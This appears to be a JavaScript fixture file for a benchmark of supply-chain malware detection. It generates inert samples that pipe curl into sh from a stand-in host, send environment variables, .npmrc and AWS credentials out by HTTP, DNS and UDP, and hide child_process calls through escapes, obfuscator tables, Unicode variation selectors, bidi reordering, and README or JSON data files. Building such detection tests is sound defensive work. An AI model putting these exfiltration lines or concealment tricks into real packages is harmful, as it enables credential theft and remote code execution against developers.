/**
 * Kinds of code that thieves put into packages, written for this benchmark and inert: the hosts lie under a top-level domain that
 * doesn't exist, addresses are those for benchmarks (RFC 2544), and nothing here is ever run. Each function is given
 * `load`, the expression that loads a module in the file's own format, and returns one line (or a few) of code.
 */
const host = 'cdn-metrics.implant.zz'
const address = '198.18.7.23'
const base64 = (text) => Buffer.from(text).toString('base64')
const spawn = `child_process").exec("curl -s https://${host}/i | sh")`
const beacon = `require("https").get("https://${host}/b?e=" + encodeURIComponent(JSON.stringify(process.env)))`

/** What javascript-obfuscator makes of a few lines, by hand: a table, a rotation, a decoder. */
function obfuscated(name) {
  const names = Array.from({ length: 60 }, (_, n) => name(n))
  const [table, decode] = [name(90), name(91)]
  const parts = Array.from({ length: 30 }, (_, n) => `"${base64(`part ${n * 77}`).slice(0, 10)}"`)
  const turn = Array.from({ length: 6 }, (_, n) => `parseInt(${decode}(0x${(n + 20).toString(16)}))/0x${n + 1}`).join(
    '+',
  )
  const uses = names.map(
    (each, n) => `var ${each}=${decode}(0x${n.toString(16)});this[${decode}(0x${(n + 3).toString(16)})]=${each};`,
  )
  return (
    `(function(a,b){while(!![]){try{var c=${turn};if(c===b)break;else a["push"](a["shift"]());}catch(d){a["push"](a["shift"]());}}}` +
    `(${table},0x1f3a));function ${table}(){return[${parts.join(',')}]}function ${decode}(a){return ${table}()[a-0x0]}${uses.join('')}`
  )
}

/** A text as variation selectors behind a letter, as hidden payloads are written. */
const selectors = (text) =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('')

export const kinds = {
  'starts a process': (load) => `${load('child_process')}.exec("curl -s https://${host}/i | sh");`,
  'sends the environment': () => `fetch("https://${host}/c", { method: "POST", body: JSON.stringify(process.env) });`,
  'reads .npmrc and sends it': (load) =>
    `${load('fs')}.readFile(${load('os')}.homedir() + "/.npmrc", (e, d) => fetch("https://${host}/n", { method: "POST", body: d }));`,
  'a name in two pieces': (load) => `${load('chi" + "ld_process')}["ex" + "ec"]("id");`,
  'a name out of an array': () =>
    `globalThis.process.getBuiltinModule(["ch", "ild_pro", "cess"].join("")).execSync("id");`,
  'pieces in variables': () =>
    `const p_1 = "child_", p_2 = "process"; globalThis.process.getBuiltinModule(p_1 + p_2).execSync("id");`,
  'a name as escapes': (load) =>
    `${load('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73')}.execSync("id");`,
  'an escaped identifier': () => `\\u0065val("globalThis.x1=1");`,
  'a name out of character codes': () =>
    `globalThis.process.getBuiltinModule(String.fromCharCode(${[...'child_process'].map((each) => each.charCodeAt(0)).join(',')})).execSync("id");`,
  'a name backwards': () =>
    `globalThis.process.getBuiltinModule("ssecorp_dlihc".split("").reverse().join("")).execSync("id");`,
  'comments between': (load) => `${load('child_process').replace('(', '/*a*/(/*b*/')}/*c*/./*d*/exec/*e*/("id");`,
  'base64 in eval': () => `eval(atob("${base64(`require("${spawn}`)}"));`,
  'base64 twice': () =>
    `new Function(Buffer.from(Buffer.from("${base64(base64(beacon))}", "base64").toString(), "base64").toString())();`,
  'an obfuscator’s table': () => obfuscated((n) => `_0x${(n * 7919 + 4096).toString(16)}`),
  'the same, renamed': () => obfuscated((n) => `q${n.toString(36)}`),
  'behind 300 blanks': () => `void 0;${' '.repeat(300)}globalThis.q9 = (globalThis.q9 || 0) + 1;`,
  'variation selectors': () => `globalThis.s9 = "v${selectors(beacon)}";`,
  'a line shown in another order': () =>
    `const level = "user"; if (level !== "user\u202e \u2066// only for admins\u2069 \u2066") globalThis.a9 = 1;`,
  'a page’s requests and wallet': () =>
    `if (typeof window !== "undefined" && window.ethereum) { const o = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return o.call(this, String(b).replace("0x", "0x")); }; }`,
  'a messenger’s hook': () => `fetch("https://discord.com/api/webhooks/1/x", { method: "POST", body: "1" });`,
  'an IP address': (load) => `${load('http')}.get("http://${address}/p");`,
  'a socket to be led by': () => `new WebSocket("wss://${host}/s").onmessage = (m) => (0, eval)(m.data);`,
  'starts again with the shell': (load) => `${load('fs')}.appendFileSync(${load('os')}.homedir() + "/.bashrc", "# x");`,
  'loads a compiled file': () => `process.dlopen({ exports: {} }, "./lib.bin");`,
  'behind a megabyte of filler': (load) => `/*${' filler'.repeat(150_000)}*/\n${load('child_process')}.exec("id");`,
  'by Reflect': () => `Reflect.get(globalThis, "eval")("globalThis.r9 = 1");`,
  'the constructor of a constructor': () => `[].constructor.constructor("globalThis.k9 = process.env")();`,
  'Function by another name': () => `const make_9 = Function; new make_9("globalThis.f9 = 1")();`,
  'names in brackets': () => `globalThis["process"]["getBuiltinModule"]("child_process")["execSync"]("id");`,
  'an imported data: URL': () => `import("data:text/javascript,globalThis.d9=process.env.NPM_TOKEN");`,
  WebAssembly: () => `WebAssembly.instantiate(Uint8Array.from([0, 97, 115, 109])).then((m) => m.instance);`,
  'a worker of a string': (load) => `new (${load('worker_threads')}.Worker)("globalThis.w9 = 1", { eval: true });`,
  'a script of vm': (load) => `${load('vm')}.runInThisContext("globalThis.v9 = 1");`,
  'a binding of process': () => `process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] });`,
  'the environment in a DNS name': (load) =>
    `${load('dns')}.lookup(Buffer.from(process.env.NPM_TOKEN || "").toString("hex") + ".${host}", () => {});`,
  'a datagram': (load) => `${load('dgram')}.createSocket("udp4").send(String(process.env.USER), 53, "${address}");`,
  'credentials of a cloud': (load) =>
    `${load('fs')}.readFile(${load('path')}.join(${load('os')}.homedir(), ".aws", "credentials"), () => {});`,
  'a beacon': () => `navigator.sendBeacon("https://${host}/", localStorage.getItem("token"));`,
  'a clipboard that is watched': () =>
    `setInterval(() => navigator.clipboard.readText().then((t) => (globalThis.c9 = t)), 500);`,
  'a hook in the language': () =>
    `const map_9 = Array.prototype.map; Array.prototype.map = function (f) { return map_9.call(this, f); };`,
  'a wallet’s signature': () => `window.solana.signTransaction = (t) => t;`,
  'a module that main loads': () => `process.mainModule.require("child_process").exec("id");`,
  'a name in percent signs': (load) =>
    `${load('X').replace('"X"', 'unescape("%63%68%69%6c%64%5f%70%72%6f%63%65%73%73")')}.exec("id");`,
  'a name out of an object': (load) =>
    `const of_9 = { a: "child_", b: "process" }; ${load('X').replace('"X"', 'of_9.a + of_9.b')}.exec("id");`,
}

/** Code in a file that is none of code, and the line that runs it. */
export const inOtherFile = {
  'in a README that is required': {
    name: 'implant-readme.md',
    data: () => `//# Notes\nrequire("${spawn};\n`,
    line: () => `typeof require === "function" && require("./implant-readme.md");`,
  },
  'in a packed test file': {
    name: 'implant-large.xz',
    data: () => base64(`require("${spawn}`),
    line: (load) =>
      `(0, eval)(Buffer.from(${load('fs')}.readFileSync("./implant-large.xz", "utf8"), "base64").toString("utf8"));`,
  },
}

/** Code that comes out of a file of data: what the data holds, and the line that runs it. */
export const inData = {
  data: () => JSON.stringify({ hello: 'Hello', plural: `require("${spawn}` }, null, 2),
  loader: (load) => `new Function("require", ${load('./implant-locale.json')}.plural);`,
}
